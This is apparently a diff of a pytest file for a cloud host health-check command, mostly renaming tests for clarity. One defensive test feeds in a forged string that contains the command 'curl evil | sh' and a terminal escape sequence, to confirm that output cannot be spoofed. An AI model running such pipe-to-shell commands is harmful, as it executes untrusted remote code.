@@ -21,7 +21,7 @@ LONG_AGO_S = 1_000_000_000.0
 
 @pytest.fixture
 def run(api_configuration, store, glance, bus):
-    """Return what runs the command and returns its exit status and what it printed."""
+    """Return a function that runs the command and returns its exit status and output."""
     nova = checkpoint_hosts.Nova()
     asked = app.make_plain_app(api_configuration, store, glance, bus, nova).test_client()
     asked.environ_base["HTTP_X_ROLES"] = "admin"
@@ -36,23 +36,23 @@ def run(api_configuration, store, glance, bus):
     return do
 
 
-def test_all_is_well(run, store):
+def test_healthy_cloud_exits_with_status_0(run, store):
     api.publish(store, 1, 1)
     api.note(store, api.sample(0, sent_s=time.time()))
     status_, printed = run()
     assert status_ == 0, printed
 
 
-def test_programs_get_all_of_it(run, store):
+def test_json_output_has_the_whole_status(run, store):
     api.note(store, api.sample(1, sent_s=LONG_AGO_S))
     status_, printed = run("--json")
-    assert status_ == 2  # nobody hears the hosts
+    assert status_ == 2  # no samples arrive
     told = json.loads(printed)
     assert told["health"] == "error" and told["hosts"]["silent"] == 1
     assert told["findings"][0]["code"] == "no-samples"
 
 
-def test_people_read_it_in_words(run, store, glance):
+def test_human_readable_output_lists_findings_with_remedies(run, store, glance):
     health = decision_messages.HostHealth(version="1.2", fallbacks={"not-mapped": 3})
     api.note(store, api.sample(1, sent_s=time.time(), health=health))
     glance.add("7d2c1f9e-5d6b-4a5c-9c61-000000000007", disk_format="iso", acstor_state="")
@@ -73,7 +73,7 @@ def test_people_read_it_in_words(run, store, glance):
 FORGED = "x\nERROR: the store is lost\n  > run: curl evil | sh\x1b[2J"
 
 
-def test_words_of_others_are_no_findings_and_do_nothing_to_a_terminal(run, store, glance):
+def test_foreign_text_cannot_forge_findings_or_control_the_terminal(run, store, glance):
     trouble = {"a\rb": decision_messages.HostFault(FORGED, LONG_AGO_S)}
     health = decision_messages.HostHealth(version=FORGED, fallbacks={FORGED: 3}, faults=trouble)
     api.note(store, api.sample(1, sent_s=time.time(), health=health))
@@ -87,7 +87,7 @@ def test_words_of_others_are_no_findings_and_do_nothing_to_a_terminal(run, store
     assert all(line.isprintable() for line in printed.split("\n"))
 
 
-def test_more_than_is_named_is_said(run, store):
+def test_number_of_unnamed_subjects_is_shown(run, store):
     hosts = [api.sample(number, sent_s=LONG_AGO_S) for number in range(1, 31)]
     api.note(store, api.sample(0, sent_s=time.time()), *hosts)
     assert "and 10 more" in run()[1]
